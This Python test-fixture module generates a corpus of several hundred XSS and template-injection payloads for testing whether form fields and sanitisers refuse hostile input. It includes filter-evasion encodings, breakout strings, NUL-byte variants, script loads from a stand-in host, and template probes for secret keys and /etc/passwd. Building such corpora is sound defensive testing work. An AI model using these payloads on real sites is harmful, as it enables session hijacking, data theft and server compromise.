"""A corpus of hostile text for every field where people write: XSS payloads and friends.

The corpus is made in code: about 160 base vectors in ten families (script tags, event
handlers, ``javascript:`` and ``data:`` URLs with frames, objects, forms, ``<meta refresh>``
and ``<base>``, SVG and MathML, CSS, breakouts from attributes and from the elements a value
may land in, Markdown links and images, template syntax that must stay text, encodings,
broken markup), each in a few variants (mixed case, URL-encoded, HTML entities, unclosed,
behind a breakout, as a Markdown link, image or auto-link target, quoted): about 400
distinct payloads. Each has a key ("X017") that test reports name; ``by_key`` finds it.

Every payload that ran would make itself known: it opens a dialog, sets ``window.__xss``
or changes ``document.title`` (see JS_ACTIONS). Payloads point at ``evil.example`` only,
a name that never resolves.

Payloads with a NUL character are kept apart (NULL_BYTE_PAYLOADS): Django's form fields
refuse them, and PostgreSQL cannot store them.
"""

from __future__ import annotations

import itertools
import re
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from urllib.parse import quote

# What a payload does when it runs: each is visible to the test (a dialog, a marker on
# window, a changed title). None contains quotes, so each fits in any attribute.
JS_ACTIONS = (
    "alert(1)",
    "confirm(1)",
    "prompt(1)",
    "window.__xss=1",
    "document.title=/xss-ran/.source",
    "print()",
    "alert(document.domain)",
    "top.__xss=document.cookie",
)
# What document.title becomes when a title-changing payload runs.
TITLE_MARKER = "xss-ran"

EVIL = "https://evil.example"


@dataclass(frozen=True)
class Payload:
    key: str  # "X001": stable within one corpus, shown next to the payload in chunks
    text: str
    family: str  # what the vector attacks: "script", "handler", "url", "svg", ...
    variant: str  # how it is dressed: "plain", "mixed-case", "url-encoded", ...

    @property
    def is_breakout(self) -> bool:
        """Written to end the attribute or element a value is put in."""
        return self.family == "breakout"


# --- base vectors -------------------------------------------------------------------------
# {js} in a template is replaced by one of JS_ACTIONS (in turn), so literal braces are
# doubled. Vectors that are a URL are also tried as Markdown link and image targets.

SCRIPT = [
    "<script>{js}</script>",
    "<SCRIPT SRC=" + EVIL + "/xss.js></SCRIPT>",
    "<script src=data:text/javascript,{js}></script>",
    "<script type=module>{js}</script>",
    "<script>/*</script><script>*/{js}</script>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "<<script>{js}//<</script>",
    "<script\x0ctype=text/javascript>{js}</script>",
    "<script>{js}",
    '<noscript><p title="</noscript><img src=x onerror={js}>">',
    '<img """><script>{js}</script>">',
    "<![CDATA[<script>{js}</script>]]>",
]
HANDLER = [
    "<img src=x onerror={js}>",
    '<img src="x" onerror="{js}">',
    '<img src=1 href=1 onerror="javascript:{js}"></img>',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<img/src=x/onerror={js}>",
    "<body onload={js}>",
    "<details open ontoggle={js}>",
    "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}></select>",
    "<textarea autofocus onfocus={js}></textarea>",
    "<video><source onerror={js}></video>",
    "<audio src=x onerror={js}>",
    "<iframe onload={js}></iframe>",
    "<marquee onstart={js}>x</marquee>",
    '<div onmouseover="{js}">Maus hierher</div>',
    "<a onclick={js}>Klick</a>",
    "<x onclick={js} contenteditable>Klick</x>",
    "<isindex type=image src=1 onerror={js}>",
    "<object onerror={js}>",
    "<style onload={js}></style>",
    '<div id="x" tabindex=1 onfocusin={js} autofocus>',
    "<form><button formaction=javascript:{js}>Senden</button></form>",
]
URL = [
    '<a href="javascript:{js}">Klick</a>',
    '<a href="jav&#x09;ascript:{js}">Klick</a>',
    '<a href="jav&#x0A;ascript:{js}">Klick</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{js}">Klick</a>',
    '<a href=" javascript:{js}">Klick</a>',
    '<a href="JaVaScRiPt:{js}">Klick</a>',
    '<a href="vbscript:msgbox(1)">Klick</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Klick</a>',
    '<iframe src="javascript:{js}"></iframe>',
    '<iframe srcdoc="<script>{js}</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror={js}&gt;"></iframe>',
    '<object data="javascript:{js}"></object>',
    '<embed src="javascript:{js}">',
    '<meta http-equiv="refresh" content="0;url=javascript:{js}">',
    '<meta http-equiv="refresh" content="0;url=' + EVIL + '/">',
    '<base href="javascript:{js}//">',
    '<base href="' + EVIL + '/">',
    '<form action="javascript:{js}"><button>Senden</button></form>',
    '<img src="javascript:{js}">',
    '<link rel=stylesheet href="javascript:{js}">',
    "javascript:{js}",
    "javascript://%0a{js}",
    "data:text/html,<script>{js}</script>",
]
SVG_MATH = [
    "<svg onload={js}>",
    "<svg/onload={js}//",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:{js}"><text x=20 y=20>XSS</text></a></svg>',
    "<svg><set attributeName=href to=javascript:{js} /></svg>",
    "<svg><foreignObject><img src=x onerror={js}></foreignObject></svg>",
    "<svg><style><img src=x onerror={js}></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={js}>",
    '<math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea>'
    '<img onerror={js} src=1>">',
    '<math href="javascript:{js}">Klick</math>',
    "<svg><desc><![CDATA[</desc><script>{js}</script>]]></svg>",
]
CSS = [
    '<div style="background:url(javascript:{js})">x</div>',
    '<div style="width:expression({js})">x</div>',
    "<style>@import '" + EVIL + "/x.css';</style>",
    '<style>body{{background:url("javascript:{js}")}}</style>',
    '<div style="behavior:url(' + EVIL + '/x.htc)">x</div>',
    '<p style="color:red">rot</p>',
    "<style>*{{display:none}}</style>",
]
BREAKOUT = [
    '"><script>{js}</script>',
    "'><script>{js}</script>",
    '" onmouseover="{js}',
    "' onmouseover='{js}",
    '" autofocus onfocus="{js}" x="',
    '" onfocus={js} autofocus x="',
    "</textarea><script>{js}</script>",
    "</title><script>{js}</script>",
    "</script><script>{js}</script>",
    "</style><script>{js}</script>",
    "--><script>{js}</script>",
    "]]><script>{js}</script>",
    '"><img src=x onerror={js}>',
    "</textarea><img src=x onerror={js}>",
    "</title><svg onload={js}>",
    '"}}</script><script>{js}</script>',
    "\\u003c/script\\u003e<script>{js}</script>",
    "</noscript><img src=x onerror={js}>",
    "`\"'><img src=x onerror={js}>",
    "</option></select><script>{js}</script>",
]
MARKDOWN = [
    "[Klick](javascript:{js})",
    "![Bild](javascript:{js})",
    "[Klick](JaVaScRiPt:{js})",
    "[Klick](javascript&#58;{js})",
    "[Klick](&#x6A;avascript:{js})",
    "[Klick](  javascript:{js}  )",
    "<javascript:{js}>",
    "[Klick][ref]\n\n[ref]: javascript:{js}",
    '![x](x" onerror="{js})',
    "[Klick](" + EVIL + '/ "Titel\\" onmouseover=\\"{js}")',
    "<" + EVIL + '/"onmouseover="{js}">',
    "[Klick](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "`<script>{js}</script>`",
    "```html\n<script>{js}</script>\n```",
    "> <img src=x onerror={js}>",
    "- <svg onload={js}>\n- [Klick](javascript:{js})",
    "| a | b |\n|---|---|\n| <script>{js}</script> | [x](javascript:{js}) |",
    "**<img src=x onerror={js}>**",
    "[<img src=x onerror={js}>](" + EVIL + "/)",
    "![<svg onload={js}>](" + EVIL + "/x.png)",
]
TEMPLATE = [
    "{{{{7*7}}}}",
    "{{% debug %}}",
    "{{{{ request.user.password }}}}",
    "{{% load static %}}{{% get_static_prefix %}}",
    "{{{{ settings.SECRET_KEY }}}}",
    "${{7*7}}",
    "#{{7*7}}",
    "<%= 7*7 %>",
    "{{{{constructor.constructor('{js}')()}}}}",
    "{{{{''.__class__.__mro__[1].__subclasses__()}}}}",
    "{{% include '/etc/passwd' %}}",
    "%(password)s %s {{0}}",
]
ENCODED = [
    "%3Cscript%3E{js}%3C%2Fscript%3E",
    "&lt;script&gt;{js}&lt;/script&gt;",
    "\\u003cscript\\u003e{js}\\u003c/script\\u003e",
    "\\x3cscript\\x3e{js}\\x3c/script\\x3e",
    "+ADw-script+AD4-{js}+ADw-/script+AD4-",
    "\uff1cscript\uff1e{js}\uff1c/script\uff1e",
    "<scr\u200bipt>{js}</scr\u200bipt>",
    "\u2028<script>{js}</script>\u2029",
    "&#60;script&#62;{js}&#60;/script&#62;",
    "&#x3C;img src=x onerror={js}&#x3E;",
    "\u202e>tpircs/<{js}>tpircs<",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    "<img src=x onerror=\\u0061lert(1)>",
    "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
]
BROKEN = [
    "<img src=x onerror={js}",
    "<svg onload={js}",
    '<a href="javascript:{js}',
    "<script",
    "<!--",
    "<!-- <script>{js}</script> --!>",
    '<?xml version="1.0"?><script>{js}</script>',
    "<div <img src=x onerror={js}>>",
    "<img src='x' onerror='{js}'<b>",
    "</p></div></main></body></html><script>{js}</script>",
    "<table><td><img src=x onerror={js}></table>",
    '<a href="' + EVIL + '/"><b><i>unclosed',
    "<plaintext><script>{js}</script>",
    "<xmp></xmp><script>{js}</script>",
    "<template><script>{js}</script></template>",
    "<<<<>>>>&&&&\"\"\"''''",
]

FAMILIES = {
    "script": SCRIPT,
    "handler": HANDLER,
    "url": URL,
    "svg": SVG_MATH,
    "css": CSS,
    "breakout": BREAKOUT,
    "markdown": MARKDOWN,
    "template": TEMPLATE,
    "encoded": ENCODED,
    "broken": BROKEN,
}


# --- variants -------------------------------------------------------------------------------


def _mixed_case(text: str) -> str:
    """sCrIpT: every other letter upper case (sanitisers that match lower case only)."""
    letters = itertools.cycle((str.lower, str.upper))
    return "".join(
        next(letters)(char) if char.isascii() and char.isalpha() else char for char in text
    )


def _url_encoded(text: str) -> str:
    return quote(text, safe="")


def _entities(text: str) -> str:
    """Markup characters as numeric character references (&#60;script&#62;)."""
    return re.sub(r"[<>\"'&:()]", lambda match: f"&#{ord(match.group())};", text)


def _unclosed(text: str) -> str:
    """The last closing tag or bracket cut off, as if the text ended early."""
    shortened = re.sub(r"</?[a-zA-Z]+>?$", "", text.rstrip())
    return shortened[:-1] if shortened == text.rstrip() and text.endswith(">") else shortened


def _markdown_link(text: str) -> str:
    return f"[Mehr erfahren]({text})"


def _markdown_image(text: str) -> str:
    return f"![Foto]({text})"


def _quoted_breakout(text: str) -> str:
    return '"><' + text.lstrip("<") if text.startswith("<") else '">' + text


def _in_quote(text: str) -> str:
    return "> " + text.replace("\n", "\n> ")


def _is_url(text: str) -> bool:
    return bool(re.match(r"(?i)^(javascript|data|vbscript):", text))


def _variants(family: str, text: str) -> Iterator[tuple[str, str]]:
    yield "plain", text
    if family in {"script", "url", "svg", "css"} and re.search(r"[a-zA-Z]{3}", text):
        yield "mixed-case", _mixed_case(text)
    if family in {"script", "url"}:
        yield "url-encoded", _url_encoded(text)
    if family in {"script", "url", "breakout"}:
        yield "entities", _entities(text)
    if family in {"handler", "svg"} and text.endswith(">"):
        yield "unclosed", _unclosed(text)
    if _is_url(text):
        yield "markdown-link", _markdown_link(text)
        yield "markdown-image", _markdown_image(text)
        yield "autolink", f"<{text}>"
    if family in {"handler", "svg"}:
        yield "after-breakout", _quoted_breakout(text)
    if family == "markdown":
        yield "quoted", _in_quote(text)


def _build() -> list[Payload]:
    seen: set[str] = set()
    payloads: list[Payload] = []
    actions = itertools.cycle(JS_ACTIONS)
    for family, templates in FAMILIES.items():
        for template in templates:
            text = template.format(js=next(actions)) if "{" in template else template
            for variant, value in _variants(family, text):
                if value in seen or not value.strip():
                    continue
                seen.add(value)
                key = f"X{len(payloads) + 1:03d}"
                payloads.append(Payload(key, value, family, variant))
    return payloads


PAYLOADS: list[Payload] = _build()

# NUL hidden in the places where parsers have skipped it: every form must refuse these.
NULL_BYTE_PAYLOADS: list[str] = [
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<img src=x onerror\x00=alert(1)>",
    '<a href="java\x00script:alert(1)">Klick</a>',
    "[Klick](java\x00script:alert(1))",
    "\x00<script>alert(1)</script>",
    "<svg\x00onload=alert(1)>",
]


def by_key(key: str) -> Payload:
    """The payload a test report names, e.g. ``by_key("X017")``."""
    return next(payload for payload in PAYLOADS if payload.key == key)


def fitting(limit: int, payloads: Iterable[Payload] | None = None) -> list[Payload]:
    """The payloads that fit a field of ``limit`` characters."""
    return [payload for payload in payloads or PAYLOADS if len(payload.text) <= limit]


def probe(payload: Payload) -> str:
    """The payload with its key in a paragraph of its own before it."""
    return f"Probe {payload.key}\n\n{payload.text}"


def chunks(
    payloads: Iterable[Payload], limit: int, *, labelled: bool = True, separator: str = "\n\n"
) -> list[tuple[list[Payload], str]]:
    """Pack payloads into texts of at most ``limit`` characters: (payloads, text) pairs.

    Labelled texts put "Probe X017" before each payload, so that a page shows which
    payloads it holds even where Markdown turns the payload itself into something else.
    """
    packed: list[tuple[list[Payload], str]] = []
    current: list[Payload] = []
    text = ""
    for payload in payloads:
        part = probe(payload) if labelled else payload.text
        candidate = f"{text}{separator}{part}" if text else part
        if len(candidate) > limit and text:
            packed.append((current, text))
            current, text = [], part
        else:
            text = candidate
        if len(text) > limit:
            raise ValueError(f"{payload.key} does not fit in {limit} characters")
        current.append(payload)
    if current:
        packed.append((current, text))
    return packed


def visible(text: str) -> str:
    """Text as compared with what a page shows: without any whitespace."""
    return re.sub(r"\s+", "", text)
